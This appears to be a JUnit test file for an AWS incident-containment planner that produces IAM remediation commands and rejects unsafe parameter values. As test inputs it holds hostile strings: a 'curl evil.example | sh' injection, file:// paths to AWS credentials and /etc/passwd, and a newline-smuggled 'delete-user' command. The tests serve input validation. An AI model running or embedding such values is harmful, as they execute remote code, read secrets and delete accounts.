package io.trailsift.investigate;

import io.trailsift.lineage.CredentialActivity;
import io.trailsift.lineage.CredentialKind;
import io.trailsift.lineage.Lineage;
import io.trailsift.lineage.LineageNode;
import org.junit.jupiter.api.Test;

import java.time.Instant;
import java.util.List;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class ContainmentTest {
    private static final Instant AS_OF = Instant.parse("2026-05-23T08:00:00Z");

    private static LineageNode node(String key, String arn, String parent) {
        return new LineageNode(key, CredentialKind.of(key), Optional.of(arn), Optional.ofNullable(parent), parent == null ? 0 : 1,
                Optional.empty(), new CredentialActivity(key, Optional.of(arn), List.of("123456789012"), Optional.empty(),
                Optional.empty(), 1, List.of(), List.of()));
    }

    private static ChangeToUndo change(String event, String user, String policyArn) {
        return new ChangeToUndo(Instant.parse("2026-05-21T12:14:05Z"), "e-" + event, event, "iam.amazonaws.com", "123456789012",
                "AKIA1234567890ABCDEF", Optional.ofNullable(user), Optional.empty(), Optional.empty(),
                Optional.ofNullable(policyArn), Optional.empty(), Optional.empty(), Optional.empty(), Optional.empty());
    }

    @Test
    void aValueThatIsNoValidAwsNameGetsNoCommandButAWarning() {
        for (String hostile : List.of("x'; curl evil.example | sh; echo '", "file://~/.aws/credentials",
                "fileb:///etc/passwd", "http://127.0.0.1:8765/x", "HTTPS://evil.example",
                "svc-tmp\naws iam delete-user --user-name break-glass-admin #", "a".repeat(65), "")) {
            List<ContainmentStep> steps = Containment.plan(new Lineage("AKIA1234567890ABCDEF", List.of()),
                    List.of(change("CreateUser", hostile, null)), AS_OF);
            ContainmentStep step = steps.get(0);
            assertEquals(List.of(), step.commands(), hostile);
            assertTrue(step.warning().orElseThrow().contains("IAM user name " + hostile), step.warning().get());
        }
    }

    @Test
    void validNamesGoInQuotedAndPlaceholdersStandForMissingOnes() {
        List<ContainmentStep> steps = Containment.plan(new Lineage("AKIA1234567890ABCDEF", List.of()), List.of(
                change("CreateLoginProfile", "svc.backup+ops=1,x@y_z-2", null),
                change("AttachUserPolicy", null, "arn:aws:iam::123456789012:policy/path/to/app-policy")), AS_OF);
        assertEquals(List.of("aws iam delete-login-profile --user-name 'svc.backup+ops=1,x@y_z-2'"), steps.get(0).commands());
        assertEquals(List.of("aws iam detach-user-policy --user-name <user> "
                + "--policy-arn 'arn:aws:iam::123456789012:policy/path/to/app-policy'"), steps.get(1).commands());
        assertTrue(steps.get(0).warning().isEmpty());
    }

    @Test
    void noParameterGrammarLetsInWhatTheAwsCliWouldLoadOrASecondLine() {
        for (AwsParameter p : AwsParameter.values()) {
            for (String v : List.of("file://x", "fileb://x", "http://x", "https://x", "a\nb", "a\rb")) {
                assertFalse(p.accepts(v), p + " " + v);
            }
        }
        assertTrue(AwsParameter.ACCESS_KEY_ID.accepts("ASIA0000000000000001"));
        assertFalse(AwsParameter.ACCESS_KEY_ID.accepts("AKIAFAKE\u001b[2K\rAKIALEGIT00000000000"));
        assertTrue(AwsParameter.TRAIL.accepts("arn:aws:cloudtrail:eu-west-1:210987654321:trail/security-tooling-trail"));
        assertEquals("'it'\\''s'", AwsCommand.sh("it's"));
    }

    @Test
    void keysAreDeactivatedAndSessionsRevokedOncePerRoleOrUser() {
        Lineage lineage = new Lineage("AKIA1234567890ABCDEF", List.of(
                node("AKIA1234567890ABCDEF", "arn:aws:iam::123456789012:user/path/app-user", null),
                node("ASIA0000000000000001", "arn:aws:sts::123456789012:assumed-role/Deploy/s1", "AKIA1234567890ABCDEF"),
                node("ASIA0000000000000002", "arn:aws:sts::123456789012:assumed-role/Deploy/s2", "AKIA1234567890ABCDEF"),
                node("ASIA0000000000000003", "arn:aws:iam::123456789012:user/backdoor", "AKIA1234567890ABCDEF")));
        List<ContainmentStep> steps = Containment.plan(lineage, List.of(change("CreateAccessKey", "backdoor", null),
                change("AttachUserPolicy", "backdoor", "arn:aws:iam::aws:policy/AdministratorAccess")), AS_OF);
        assertEquals(4, steps.size(), steps.toString());
        assertEquals("aws iam update-access-key --user-name 'app-user' --access-key-id 'AKIA1234567890ABCDEF' --status Inactive",
                steps.get(0).commands().get(0));
        assertTrue(steps.get(1).commands().get(0).startsWith("aws iam put-role-policy --role-name 'Deploy' "));
        assertTrue(steps.get(1).commands().get(0).contains("\"aws:TokenIssueTime\":\"2026-05-23T08:00:00Z\""));
        assertTrue(steps.get(2).commands().get(0).startsWith("aws iam put-user-policy --user-name 'backdoor' "));
        assertEquals(List.of("aws iam detach-user-policy --user-name 'backdoor' --policy-arn 'arn:aws:iam::aws:policy/AdministratorAccess'"),
                steps.get(3).commands());
    }
}
